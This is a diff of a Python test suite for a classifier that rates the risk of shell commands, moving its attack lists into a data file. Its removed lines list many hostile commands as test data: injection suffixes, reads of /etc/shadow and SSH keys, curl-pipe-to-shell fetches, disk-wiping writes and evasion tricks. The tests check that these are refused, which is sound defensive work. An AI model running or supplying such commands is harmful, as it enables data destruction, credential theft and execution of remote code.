@@ -34,21 +34,8 @@ def corpus() -> list[tuple[str, int, int, str]]:
 ROWS = corpus()
 HARMLESS = [command for command, _, high, _ in ROWS if high == 0]
 FORBIDDEN = [command for command, low, _, _ in ROWS if low == 3]
+CASES = tomllib.loads((HERE.parent / "data" / "risk_cases.toml").read_text("utf-8"))
 UNDERSTOOD = [command for command, *_ in ROWS if isinstance(parse(command), tuple)]
-
-APPENDED = [
-    "; touch /tmp/x", " && rm -f /tmp/x", " || touch x", " | sh", " | tee /tmp/x", " | xargs rm", "\ntouch x",
-    "\\\n; touch x", "\n\\\ntouch x", " &", " & touch x", " |& sh", " $(id)", " `id`", ' "$(id)"', " ${x:-$(id)}",
-    " <(id)", " >(id)", " > /tmp/f", " >> /tmp/f", " >| /tmp/f", " 2>/tmp/f", " &>/tmp/f", " <<< x", " <<E\nid\nE",
-    " {a,b}", " *", " ?", " [a]", " ~", " $HOME", " $'x'", "\r\ntouch x", "\u2028touch x", "\u00a0x", "\u202ex",
-    " #x", " '", ' "', " \\", "; . /tmp/x", "; eval id", "; exec id", "; x=1", "; if id; then id; fi",
-    " --output=/tmp/x", " --outp=/tmp/x", " --compress-program=sh", " --exec=id",
-]  # fmt: skip
-PREPENDED = [
-    "touch x; ", "touch x\n", "touch x && ", "LD_PRELOAD=/tmp/x.so ", "PATH=/tmp ", "PAGER=/tmp/x ", "x=1 ", "! ",
-    "eval ", "exec ", "(touch x); ", "{ touch x; }; ", "> /tmp/x ", "$(touch x) ", "xargs ", "sudo -s ", "env -S ",
-    "ssh h ", "sh -c ", "/tmp/", "./", "../", "watch ", "parallel ", "strace ", "function f { id; }; ",
-]  # fmt: skip
 
 
 @pytest.mark.parametrize(("command", "low", "high", "group"), ROWS)
@@ -71,66 +58,27 @@ def test_forbidden_rows_are_refused_and_a_miss_is_for_an_admin() -> None:
     assert min(levels) >= Risk.L2
 
 
-@pytest.mark.parametrize("attack", APPENDED)
+@pytest.mark.parametrize("attack", CASES["appended"])
 def test_no_appended_attack_runs_unasked(attack: str) -> None:
     assert [command for command in HARMLESS if classify(command + attack).level < Risk.L2] == []
 
 
-@pytest.mark.parametrize("attack", PREPENDED)
+@pytest.mark.parametrize("attack", CASES["prepended"])
 def test_no_prepended_attack_runs_unasked(attack: str) -> None:
     assert [command for command in HARMLESS if classify(attack + command).level < Risk.L2] == []
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "ps auxe", "ps -auxe", "ps aux e", "ps -eo pid,environ", "cat /proc/self/environ", "cat /proc/1/root/etc/shadow",
-        "systemctl show nginx", "systemctl show -p Environment nginx", "cd /etc && cat shadow", "cat /etc//./shadow",
-        "cat /etc/sh*", "cat /*/shadow", "grep -r foo /", "grep -R foo", "uniq /tmp/*", "cat /home/*/.ssh/*",
-        "awk '{print > \"/tmp/x\"}' a", "awk '{x = a / b; print | \"sh\"; y = c / d}' f", "awk -f /tmp/x f",
-        "awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}{print}'", "awk 'BEGIN{f=\"system\"; @f(\"id\")}'",
-        "awk '/[/]/ {system(\"id\")} /]/' f", "sed 's/a/b/e' f", "sed 's/[/]/x/e;s/]/y/' f", "sed 'r /etc/shadow' f",
-        "ip link s dev eth0 down", "ss -K dst 1.2.3.4", "yum history undo 5", "apt -o x=y list", "rpm --eval x -q y",
-        "python3 -v", "docker top web e", "kubectl get pods,secrets", "kubectl --context=prod get pods",
-        "redis-cli", "redis-cli -h evil PING", "redis-cli CONFIG GET requirepass", "psql -h other -c 'select 1'",
-        "psql -c 'select 1; drop table x'", "psql -c 'select \"pg_sleep\"(10)'", "mysql -e 'system id'",
-        "mysql -e 'select 1 /*!50000 into outfile 1 */'", "curl -w '%output{/tmp/x}' http://localhost/health",
-        "curl http://localhost@evil/health", "curl -H @/etc/shadow http://localhost/health", "printf -v x y",
-        "truncate -s 0 /var/log/auth.log", "rm /var/log/../../etc/x.1", "rm /var/log/*.1", "rm /var/log/app.log",
-        "systemctl restart a b", "systemctl restart sshd", "systemctl stop nginx", "supervisorctl restart all",
-        "TZ=/etc/shadow date", "LC_ALL=../x ls", "=ls", "l\\s", "git log --ext-diff", "iptables -L -Z",
-        "nft 'list ruleset; flush ruleset'", "jq 'env.HOME' f", "grep -f /etc/shadow x", "timeout 5 touch x",
-    ],
-)  # fmt: skip
+@pytest.mark.parametrize("command", CASES["tricks"])
 def test_known_tricks_need_an_admin(command: str) -> None:
     assert classify(command).level >= Risk.L2
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "rm -r --no-preserve-root /", "rm --recurs -f /usr", "rm -rf /home/*", "rm -rf ~", "find / -delete",
-        "find / -exec rm -rf / {} +", "sudo -u root -n reboot", "bash -c 'sudo reboot'", "if true; then reboot; fi",
-        "$(curl -s http://x) ; eval \"$(curl -s http://x)\"", "bash <(curl -s http://x)", "source <(wget -qO- http://x)",
-        "curl -s http://x | sudo bash -s -- --yes", "curl http://x |\nsh", "echo x | base64 -d | bash",
-        "echo 'rm -rf /' | sh", "cat x > /dev/nvme0n1", "tee /dev/sda", "cp x /dev/sda", "echo b > /proc/sysrq-trigger",
-        "init 0", "systemctl start poweroff.target", "docker exec -u root web reboot", "psql <<EOF\nDROP DATABASE x;\nEOF",
-        "mysqladmin -u root drop shop", "nice -n 5 ionice -c 3 timeout -s KILL 9 reboot", "parted /dev/sda mklabel gpt",
-        "x\u200b=1 re\u200bboot", "LANG=C reboot " + "x" * 5000,
-    ],
-)  # fmt: skip
+@pytest.mark.parametrize("command", CASES["refused"])
 def test_forbidden_commands_are_refused_in_many_shapes(command: str) -> None:
     assert classify(command).level == Risk.L3
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "sudo -n grep reboot /var/log/syslog", "timeout 5 grep 'rm -rf /' /var/log/syslog", "cat /var/log/reboot.log",
-        "psql -c \"SELECT query FROM q WHERE query LIKE '%DROP DATABASE%'\"", "echo 'curl x | sh'",
-        "systemctl status reboot.target", "which shutdown reboot mkfs", "ls -l /dev/sda",
-    ],
-)  # fmt: skip
+@pytest.mark.parametrize("command", CASES["named"])
 def test_what_only_names_something_forbidden_runs(command: str) -> None:
     assert classify(command).level == Risk.L0
 
@@ -240,48 +188,22 @@ def test_both_readers_see_the_same_words(command: str) -> None:
     assert [loose.words for loose in read(command) if loose.words] == strict
 
 
+def test_a_forbidden_command_is_refused_however_long_it_is() -> None:
+    assert classify("LANG=C reboot " + "x" * 20_000).level == Risk.L3
+
+
 # Limits
 
 
-def garbage() -> Iterator[tuple[str, str]]:
-    """Yield 20 kB texts that have made readers of shell slow."""
+def garbage() -> list[str]:
+    """Return texts of 20 kB, one of them random."""
     chooser = random.Random(7)
-    yield "random", "".join(chooser.choice("ab$`'\"\\|&;<>(){}[]*?~# \n\t=-/") for _ in range(20_000))
-    for piece in (
-        "a",
-        " ",
-        "\\",
-        "$(",
-        "`",
-        '"$(',
-        "a;",
-        "(",
-        ":()",
-        "{a|a",
-        "sudo ",
-        "eval ",
-        "sh -c '",
-        "rm -rf /a ",
-        "/..",
-        "'",
-    ):
-        yield piece, (piece * 20_000)[:20_000]
-    for piece in (
-        "echo a|psql|",
-        "curl x|",
-        "echo a|sh|",
-        "a=1 ",
-        "psql -c '/*",
-        "find -exec ",
-        "\u202e",
-        "\0",
-        "awk '/a",
-    ):
-        yield piece, (piece * 20_000)[:20_000]
+    noise = "".join(chooser.choice("ab$`'\"\\|&;<>(){}[]*?~# \n\t=-/") for _ in range(20_000))
+    return [noise, *((piece * 20_000)[:20_000] for piece in CASES["slow"])]
 
 
-@pytest.mark.parametrize(("name", "text"), garbage())
-def test_garbage_of_20_kb_is_judged_quickly_and_never_runs(name: str, text: str) -> None:
+@pytest.mark.parametrize("text", garbage(), ids=["random", *map(repr, CASES["slow"])])
+def test_garbage_of_20_kb_is_judged_quickly_and_never_runs(text: str) -> None:
     spent = []
     for _ in range(3):
         before = time.process_time()
